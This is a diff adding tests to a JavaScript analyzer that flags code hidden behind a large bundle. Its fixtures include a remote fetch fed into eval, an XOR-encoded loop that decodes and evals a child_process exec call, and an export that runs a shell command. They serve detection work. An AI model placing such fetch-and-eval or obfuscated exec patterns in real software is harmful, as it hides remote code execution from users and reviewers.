@@ -220,3 +220,29 @@ describe('glue', () => {
     expect(analyzeJs(text).glue).toBe(false);
   });
 });
+
+describe('behind code that is as large as a bundle', () => {
+  const bundle = Array.from(
+    { length: 2_500 },
+    (_, i) =>
+      `exports.d${i} = (s) => ({ text: atob(s), env: process.env.NODE_ENV, api: () => fetch('https://api.weir.test/v${i}') });\n`,
+  ).join('');
+
+  test('a function that runs code, handed over to be called, is followed', () => {
+    const { flow } = analyzeJs(`${bundle}fetch('https://a.weir.test/p').then((r) => r.text()).then(eval);\n`);
+    expect(flow.flows).toMatchObject([{ sink: 'code', sinkName: 'eval' }]);
+  });
+
+  test('a loop that decodes is run', () => {
+    const codes = Buffer.from('require("child_process").exec("id")').map((byte) => byte ^ 7);
+    const loop = `let s = '';\nfor (const n of [${codes.join(',')}]) s += String.fromCharCode(n ^ 7);\neval(s);\n`;
+    expect(analyzeJs(bundle + loop).codeSinks).toMatchObject([
+      { text: 'require("child_process").exec("id")' },
+    ]);
+  });
+
+  test('what an export runs is known', () => {
+    const { exportRuns } = analyzeJs(`${bundle}exports.start = () => require('child_process').exec('id');\n`);
+    expect(exportRuns?.runs.get('')?.length ?? 0).toBeGreaterThan(0);
+  });
+});
